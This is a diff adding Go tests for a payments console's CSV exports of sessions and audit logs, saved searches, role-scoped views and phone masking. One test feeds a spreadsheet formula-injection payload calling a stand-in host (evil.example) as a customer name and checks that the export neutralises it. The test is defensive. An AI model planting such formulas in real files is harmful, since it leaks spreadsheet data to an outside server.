@@ -1,0 +1,218 @@
+package console_test
+
+import (
+	"encoding/csv"
+	"fmt"
+	"net/http"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"till/flow"
+	"till/flow/store"
+)
+
+// table reads an answer as a file of rows: each by the names of its columns.
+func (w *world) table(r reply) []map[string]string {
+	w.t.Helper()
+	w.wants(r, http.StatusOK)
+	if kind := r.header.Get("Content-Type"); kind != "text/csv; charset=utf-8" || !strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment;") || r.header.Get("Cache-Control") != "no-store" {
+		w.t.Errorf("it is no file: %v", r.header)
+	}
+	all, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
+	if err != nil || len(all) == 0 {
+		w.t.Fatalf("%v: %s", err, r.body)
+	}
+	out := make([]map[string]string, 0, len(all)-1)
+	for _, row := range all[1:] {
+		one := map[string]string{}
+		for i, name := range all[0] {
+			one[name] = row[i]
+		}
+		out = append(out, one)
+	}
+	return out
+}
+
+func TestWhatIsFoundIsTakenAwayAsAFile(t *testing.T) {
+	w := open(t)
+	formula := `=HYPERLINK("http://evil.example?"&A1,"click")`
+	first := w.opened(w.ada, `,"customerName":`+fmt.Sprintf("%q", formula)+`,"customerPhone":"08031234567","reference":"-1182","description":"+two, \"quoted\""`)
+	for range 210 { // more than are read at once
+		w.opened(w.ada, "")
+	}
+	stranger := w.merchant("Bola Stores")
+	foreign := w.opened(stranger, "")
+	support := w.as(flow.RoleSupport)
+	w.wants(support.get("/sessions"), http.StatusOK, `href="/sessions.csv?"`, "till sessions list")
+	rows := w.table(support.get("/sessions.csv"))
+	if len(rows) != 211 {
+		t.Fatalf("%d rows", len(rows))
+	}
+	ids := map[string]bool{}
+	for _, row := range rows {
+		ids[row["session"]] = true
+	}
+	if len(ids) != 211 || ids[foreign] {
+		t.Errorf("%d sessions, another merchant's %v", len(ids), ids[foreign])
+	}
+	got := rows[len(rows)-1]
+	for column, want := range map[string]string{
+		"session": first, "customer": "'" + formula, "reference": "'-1182", "description": "'+two, \"quoted\"", "phone": "234•••••4567", "amount_naira": "5000.00",
+		"amount_kobo": "500000", "paid_naira": "0.00", "paid_kobo": "0", "paid_at": "", "status": "PENDING", "project": "Ada Stores", "currency": "NGN",
+	} {
+		if got[column] != want {
+			t.Errorf("%s is %q, not %q", column, got[column], want)
+		}
+	}
+	if body := support.get("/sessions.csv").body; strings.Contains(body, "8031234567") {
+		t.Error("it holds a whole phone number")
+	}
+	if rows := w.table(support.get("/sessions.csv?status=PAID")); len(rows) != 0 {
+		t.Errorf("of none that is paid: %v", rows)
+	}
+	if rows := w.table(support.get("/sessions.csv?q=" + url.QueryEscape("08031234567"))); len(rows) != 1 || rows[0]["session"] != first {
+		t.Errorf("by phone: %v", rows)
+	}
+	if rows := w.table(w.as(flow.RoleOperator).get("/sessions.csv")); len(rows) != 212 {
+		t.Errorf("an operator gets %d rows", len(rows))
+	}
+	list, _, err := w.accounts.Audits(t.Context(), store.AuditFilter{Account: w.ada.account, Action: "sessions", Limit: 10})
+	if err != nil || len(list) != 4 || list[0].Reason != "phone, or reference" && !strings.Contains(list[0].Reason, "phone") {
+		t.Errorf("kept: %+v, %v", list, err)
+	}
+	for _, a := range list {
+		if strings.Contains(a.Reason, "803123") {
+			t.Errorf("the audit log holds what was searched for: %s", a.Reason)
+		}
+	}
+}
+
+func TestSearchesAreKeptByPerson(t *testing.T) {
+	w := open(t)
+	support, owner := w.as(flow.RoleSupport), w.as(flow.RoleOwner)
+	w.wants(support.get("/sessions?q=4500&status=PAID"), http.StatusOK, "Keep this search as")
+	w.wants(support.post("/filters", form("name", "<b>mine</b>", "q", "4500", "status", "PAID")), http.StatusSeeOther)
+	kept := `href="/sessions?q=4500&amp;status=PAID">&lt;b&gt;mine`
+	w.wants(support.get("/sessions"), http.StatusOK, kept)
+	w.wants(support.post("/filters", form("name", "<b>mine</b>", "q", "4600")), http.StatusSeeOther) // the same name
+	if got := support.get("/sessions"); strings.Contains(got.body, kept) || !strings.Contains(got.body, `href="/sessions?q=4600"`) {
+		t.Errorf("two are kept under one name: %s", got.main())
+	}
+	for name, fields := range map[string]url.Values{
+		"no name": form("q", "4500"), "nothing": form("name", "x"), "no status": form("name", "x", "status", "SOLD"), "a long name": form("name", strings.Repeat("x", 41), "q", "1"),
+		"a long search": form("name", "x", "q", strings.Repeat("9", 201)),
+	} {
+		if got := support.post("/filters", fields); got.status != http.StatusBadRequest {
+			t.Errorf("%s: %d", name, got.status)
+		}
+	}
+	if got := owner.get("/sessions"); strings.Contains(got.body, "4600") {
+		t.Error("another person has it")
+	}
+	w.wants(owner.post("/filters/drop", form("name", "<b>mine</b>")), http.StatusNotFound)
+	for i := range flow.MaxFilters - 1 {
+		w.wants(support.post("/filters", form("name", fmt.Sprint("no. ", i), "q", "1")), http.StatusSeeOther)
+	}
+	w.wants(support.post("/filters", form("name", "one more", "q", "1")), http.StatusBadRequest, "You keep 20 searches already")
+	w.wants(support.post("/filters", form("name", "no. 0", "q", "2")), http.StatusSeeOther)
+	w.wants(support.post("/filters/drop", form("name", "<b>mine</b>")), http.StatusSeeOther)
+	if got := support.get("/sessions"); strings.Contains(got.body, "mine") {
+		t.Error("what was dropped is shown")
+	}
+	w.wants(support.post("/filters", form("name", "one more", "q", "1")), http.StatusSeeOther)
+}
+
+func TestTheAuditLogIsNarrowedAndTakenAway(t *testing.T) {
+	w := open(t)
+	ada, bola := w.ada, w.merchant("Bola Stores")
+	day := func(add int) string {
+		return w.now().In(time.FixedZone("Lagos", 3600)).AddDate(0, 0, add).Format(time.DateOnly)
+	}
+	keep := func(m merchant, actor, action, subject string) {
+		w.t.Helper()
+		if err := w.accounts.Audit(t.Context(), flow.Audited{Actor: actor, Role: flow.RoleSupport, Account: m.account, Project: m.project.ID, Action: action, Subject: subject, Reason: "=1+1"}, true); err != nil {
+			t.Fatal(err)
+		}
+		w.pass(time.Second)
+	}
+	keep(ada, "obi@shop.test", "payment.accept", "sub-1.")
+	keep(bola, "eve@shop.test", "payment.accept", "sub-2.")
+	first := day(0)
+	w.pass(48 * time.Hour)
+	keep(ada, "obi@shop.test", "payment.send_back", "sub-3.")
+	keep(ada, "uche@shop.test", "paymentlike", "sub-4.")
+	operator, owner := w.as(flow.RoleOperator), w.as(flow.RoleOwner)
+	for query, want := range map[string]string{
+		"":                                   "sub-4. sub-3. sub-2. sub-1.",
+		"action=payment":                     "sub-3. sub-2. sub-1.",
+		"action=payment.accept":              "sub-2. sub-1.",
+		"actor=obi%40shop.test":              "sub-3. sub-1.",
+		"from=" + day(0):                     "sub-4. sub-3.",
+		"until=" + first:                     "sub-2. sub-1.",
+		"from=" + first + "&until=" + day(0): "sub-4. sub-3. sub-2. sub-1.",
+		"from=" + day(1):                     "",
+		"action=payment&until=" + first:      "sub-2. sub-1.",
+	} {
+		for address, shown := range map[*visitor]string{operator: want, owner: strings.ReplaceAll(strings.ReplaceAll(want, "sub-2. ", ""), "sub-2.", "")} {
+			path := "/ops/audit"
+			if address == owner {
+				path = "/team/audit"
+			}
+			page := address.get(path + "?" + query)
+			w.wants(page, http.StatusOK)
+			var listed, filed []string
+			for _, one := range []string{"sub-4.", "sub-3.", "sub-2.", "sub-1."} {
+				if strings.Contains(page.body, ">"+one+"<") {
+					listed = append(listed, one)
+				}
+			}
+			for _, row := range w.table(address.get(path + ".csv?" + query)) {
+				if strings.HasPrefix(row["subject"], "sub-") {
+					filed = append(filed, row["subject"])
+					if row["reason"] != "'=1+1" || row["at"] == "" || row["who"] == "" {
+						t.Errorf("%v", row)
+					}
+				}
+			}
+			if strings.Join(listed, " ") != shown || !slices.Equal(listed, filed) {
+				t.Errorf("%s?%s lists %v and files %v, not %s", path, query, listed, filed, shown)
+			}
+		}
+	}
+	w.wants(operator.get("/ops/audit?from=yesterday"), http.StatusBadRequest, "2026-08-27")
+	w.wants(owner.get("/team/audit?actor=nobody"), http.StatusOK, "Nothing fits.")
+	// Who takes it away stands there too.
+	w.wants(owner.get("/team/audit?action=audit.export"), http.StatusOK, "audit.export", "owner of "+ada.email)
+	for i := range 110 {
+		keep(ada, "obi@shop.test", "payment.accept", fmt.Sprintf("more-%03d.", i))
+	}
+	page := w.as(flow.RoleOwner).get("/team/audit?action=payment")
+	_, rest, found := strings.Cut(page.body, `<a href="/team/audit?before=`)
+	if !found || strings.Contains(page.body, "more-009.") {
+		t.Fatal("the first page is not the newest hundred")
+	}
+	next, _, _ := strings.Cut(rest, `"`)
+	w.wants(w.as(flow.RoleOwner).get("/team/audit?before="+strings.ReplaceAll(next, "&amp;", "&")), http.StatusOK, "more-009.", "more-000.", "sub-1.")
+}
+
+func TestAFileOfRowsIsBoundedAndSaysSo(t *testing.T) {
+	w := open(t)
+	if err := w.people.Update(t.Context(), func(tx *store.Tx) error {
+		for i := range 10_001 {
+			a := flow.Audited{ID: fmt.Sprintf("aud_%05d", i), At: w.now(), Actor: "obi", Role: flow.RoleSupport, Account: w.ada.account, Action: "x.y", Subject: fmt.Sprint(i)}
+			if err := tx.AddAudit(t.Context(), a); err != nil {
+				return err
+			}
+		}
+		return nil
+	}); err != nil {
+		t.Fatal(err)
+	}
+	rows := w.table(w.as(flow.RoleOwner).get("/team/audit.csv?action=x"))
+	if len(rows) != 10_001 || rows[0]["subject"] != "10000" || rows[9_999]["subject"] != "1" || !strings.HasPrefix(rows[10_000]["at"], "cut after 10000 rows") {
+		t.Errorf("%d rows, which end with %v", len(rows), rows[len(rows)-1])
+	}
+}
